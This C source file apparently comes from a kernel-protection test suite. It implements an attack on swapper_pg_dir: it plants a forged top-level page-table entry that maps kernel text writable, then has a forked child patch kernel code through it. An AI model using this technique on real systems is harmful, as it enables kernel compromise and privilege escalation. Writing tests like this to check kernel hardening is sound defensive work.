// SPDX-License-Identifier: GPL-2.0-only
/*
 * Attacks on swapper_pg_dir: every new process copies its kernel half, so one
 * entry there gives all of them a kernel address of the attacker's choice.
 */
#include <sys/wait.h>
#include <unistd.h>

#include "attack.h"
#include "list.h"

/* An unused address in the part of the kernel half that new processes copy. */
static bool find_unused(uint64_t *addr, struct slot *slot)
{
	uint64_t size = top_level_size();
	uint64_t direct_map = direct_map_base();

	*addr = (direct_map & ~(size - 1)) + size;
	for (; *addr > direct_map; *addr += size)
		if (!kwalk(*addr, LEVEL_PGD, 0, slot) && !slot->value)
			return true;
	return false;
}

/* Only a process made after the change has the new entry. */
static enum outcome patch_from_child(uint64_t addr)
{
	pid_t pid = fork();

	if (pid < 0)
		return broken("fork failed");
	if (!pid)
		_exit(patch_text_through(addr));
	waitpid(pid, NULL, 0);
	return WON;
}

static enum outcome change_swapper(bool through_direct_map)
{
	uint64_t phys = text_phys(), offset = phys % PAGE_SIZE;
	struct slot slot, mapped;
	uint64_t addr, entry;
	int err;

	if (!find_unused(&addr, &slot))
		return broken("no unused entry in swapper_pg_dir");
	if (kwalk(slot.slot, LEAF, 0, &mapped))
		return broken("swapper_pg_dir is not mapped");
	entry = forge_tables((phys - offset) | PTE_KERNEL_RW);
	if (through_direct_map)
		slot.slot = mapped.alias;

	err = kwrite64(slot.slot, entry);
	if (err)
		return lost("the new top-level entry was refused: %d", err);
	patch_from_child(addr + offset);
	kwrite64(slot.slot, 0);
	return WON;
}

enum outcome swapper_image(void)
{
	return change_swapper(false);
}

enum outcome swapper_direct(void)
{
	return change_swapper(true);
}
